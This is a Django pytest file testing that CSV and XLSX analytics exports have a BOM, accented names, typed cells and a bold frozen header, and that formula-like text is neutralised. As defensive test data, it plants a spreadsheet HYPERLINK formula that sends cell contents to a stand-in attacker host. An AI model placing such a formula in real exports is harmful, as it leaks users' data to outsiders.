"""Exports that open cleanly in Excel: BOM, real types, a bold frozen header,
and no text a spreadsheet would run as a formula."""

import csv
import io
from datetime import datetime

import pytest
from openpyxl import load_workbook

from django.urls import reverse

from analytics.exports import neutralised
from tests.analytics.utils import assign, employees

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def export_url(city):
    (hostile,) = employees(1, city["library"], first_name="Renée", last_name=HOSTILE)
    (accented,) = employees(1, city["library"], first_name="José", last_name="Ñúñez")
    for employee in (hostile, accented):
        assign(employee, city["ed20"])
    return reverse("analytics:department", args=["LAPL"])


def download(client, user, url, export_format):
    client.force_login(user)
    response = client.get(url, {"format": export_format})
    assert response.status_code == 200
    return response.content


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    assert neutralised(f"{start}1+1") == f"'{start}1+1"
    assert neutralised("Abbott") == "Abbott"
    assert neutralised(-5) == -5  # numbers stay numbers


def test_the_csv_has_a_bom_accents_and_no_formula(client, city, export_url):
    raw = download(client, city["admin"], export_url, "csv")
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    names = {row["Name"] for row in rows}
    assert "Ñúñez, José" in names
    assert f"'{HOSTILE}, Renée" in names
    assert not any(
        value.startswith(("=", "+", "@")) for row in rows for value in row.values()
    )


def test_the_xlsx_has_types_a_bold_frozen_header_and_widths(client, city, export_url):
    raw = download(client, city["admin"], export_url, "xlsx")
    sheet = load_workbook(io.BytesIO(raw)).active
    assert sheet.freeze_panes == "A2"
    header = list(sheet[1])
    assert all(cell.font.bold for cell in header)
    headings = [cell.value for cell in header]
    assert sheet.column_dimensions["B"].width >= len("Name")
    rows = [dict(zip(headings, row, strict=True)) for row in sheet.iter_rows(2)]
    hostile = next(r for r in rows if HOSTILE in str(r["Name"].value))
    assert hostile["Name"].data_type == "s"
    assert hostile["Name"].value.startswith("'=")
    assert any(r["Name"].value == "Ñúñez, José" for r in rows)
    due = hostile["Due date"]
    assert due.is_date and isinstance(due.value, datetime)
    assert due.number_format == "yyyy-mm-dd"
    assert all(isinstance(r["Modules"].value, int) for r in rows)
    done = [r for r in rows if r["Best score"].value not in (None, "")]
    assert done and all(isinstance(r["Best score"].value, int | float) for r in done)


def test_the_dashboard_xlsx_keeps_percentages_as_numbers(client, city):
    raw = download(client, city["admin"], reverse("analytics:dashboard"), "xlsx")
    sheet = load_workbook(io.BytesIO(raw)).active
    headings = [cell.value for cell in sheet[1]]
    column = headings.index("Completion %")
    values = [row[column].value for row in sheet.iter_rows(2)]
    assert values and all(isinstance(value, int | float) for value in values)
